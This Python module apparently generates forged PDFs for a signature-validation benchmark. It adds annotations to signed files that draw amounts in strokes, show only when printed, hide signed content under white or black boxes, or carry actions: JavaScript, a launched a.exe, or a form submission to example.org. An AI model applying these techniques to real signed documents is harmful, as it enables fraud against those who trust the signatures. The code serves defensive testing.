"""Forgeries by annotations that pass for harmless comments (EAA): a marker that writes, a note that acts or covers."""

from __future__ import annotations

from random import Random

from bench.forgeries.common import a_page, stream
from bench.patch import Patch
from signing.change import Rect
from signing.pdfobjects import Name, PdfString, Value

_COMMENTS = ("Highlight", "Underline", "Text", "Popup", "Link")
_DRAWINGS = ("Ink", "Square", "Polygon", "PolyLine", "Line", "Caret", "Stamp", "Squiggly")


def digits(random: Random, count: int, height: float) -> bytes:
    """Digits as strokes, each `height` points high and half as wide."""
    out = [b"0 0 0 RG 1.1 w"]
    for place in range(count):
        x, right = 2 + place * height * 0.75, 2 + place * height * 0.75 + height / 2
        top, middle = 2 + height, 2 + height / 2
        shape = random.choice(
            [
                [(x, 2.0), (x, top), (right, top), (right, 2.0), (x, 2.0)],
                [(x, top), (right, top), (x, 2.0)],
                [(right, middle), (x, middle), (x, top), (right, top), (right, 2.0), (x, 2.0)],
            ]
        )
        steps = [b"%.1f %.1f %s" % (*point, b"l" if index else b"m") for index, point in enumerate(shape)]
        out.append(b" ".join(steps) + b" S")
    return b"\n".join(out)


def _annotated(pdf: bytes, random: Random, kind: str, box: Rect, content: bytes | None, **more: Value) -> bytes | None:
    patch = Patch(pdf)
    page = a_page(patch, random)
    if page is None:
        return None
    left, bottom, right, top = box
    note: dict[str, Value] = {
        "Type": Name("Annot"), "Subtype": Name(kind), "Rect": list(box), "F": 4, "Contents": PdfString(b"x"),
        "QuadPoints": [left, top, right, top, left, bottom, right, bottom], **more,
    }  # fmt: skip
    if content is not None:
        size: list[Value] = [0, 0, right - left, top - bottom]
        note["AP"] = {"N": patch.add(stream(content, Type=Name("XObject"), Subtype=Name("Form"), BBox=size))}
    annotations = list(patch.file.sequence(patch.file.mapping(page).get("Annots")))
    patch.change(page, Annots=[*annotations, patch.add(note)])
    return patch.done()


def _somewhere(random: Random, width: float, height: float) -> Rect:
    x, y = random.uniform(90, 560 - width), random.uniform(230, 620)
    return x, y, x + width, y + height


def write_with_a_comment(pdf: bytes, random: Random) -> bytes | None:
    """A marker, note or link whose own picture is a digit, or a whole amount, made of strokes."""
    count, height = random.choice([(1, 9.0), (2, 8.0), (9, 10.0), (12, 12.0)])
    box = _somewhere(random, 6 + count * height * 0.75, height + 5)
    return _annotated(pdf, random, random.choice(_COMMENTS), box, digits(random, count, height))


def write_with_a_drawing(pdf: bytes, random: Random) -> bytes | None:
    """A drawing whose strokes are a line of letters."""
    height = random.uniform(8, 14)
    box = _somewhere(random, 10 + 12 * height * 0.75, height + 6)
    return _annotated(pdf, random, random.choice(_DRAWINGS), box, digits(random, 12, height))


def show_on_paper_alone(pdf: bytes, random: Random) -> bytes | None:
    """A comment that is not seen on the screen and comes out of the printer."""
    kind = random.choice((*_COMMENTS, *_DRAWINGS))
    content = digits(random, random.randint(1, 9), 10)
    return _annotated(pdf, random, kind, _somewhere(random, 90, 16), content, F=random.choice([36, 4 | 256, 36 | 256]))


def act_as_a_comment(pdf: bytes, random: Random) -> bytes | None:
    """A comment that runs a script, starts a program, sends data, or attaches a file."""
    script: Value = {"S": Name("JavaScript"), "JS": PdfString(b"app.alert(1)")}
    launch: Value = {"S": Name("Launch"), "F": PdfString(b"a.exe")}
    send: Value = {"S": Name("SubmitForm"), "F": PdfString(b"https://example.org/")}
    then: Value = {"S": Name("URI"), "URI": PdfString(b"https://example.org/"), "Next": script}
    more: dict[str, Value] = random.choice(
        [{"A": script}, {"A": launch}, {"A": send}, {"A": then}, {"AA": {"E": script}}]
    )
    kind = random.choice(("Highlight", "Text", "Link"))
    if random.random() < 0.2:
        kind, more = "FileAttachment", {"FS": {"Type": Name("Filespec"), "F": PdfString(b"a.txt")}}
    return _annotated(pdf, random, kind, _somewhere(random, 40, 14), None, **more)


def cover_with_a_comment(pdf: bytes, random: Random) -> bytes | None:
    """A marker, note or link that is white, or black, and covers what was signed, type or scan."""
    left, bottom = random.uniform(80, 120), random.uniform(480, 600)
    box = (left, bottom, left + random.uniform(220, 320), bottom + random.uniform(40, 100))
    colour = random.choice([b"1 1 1 rg", b"0 0 0 rg"])
    return _annotated(pdf, random, random.choice(_COMMENTS), box, colour + b" 0 0 400 200 re f")
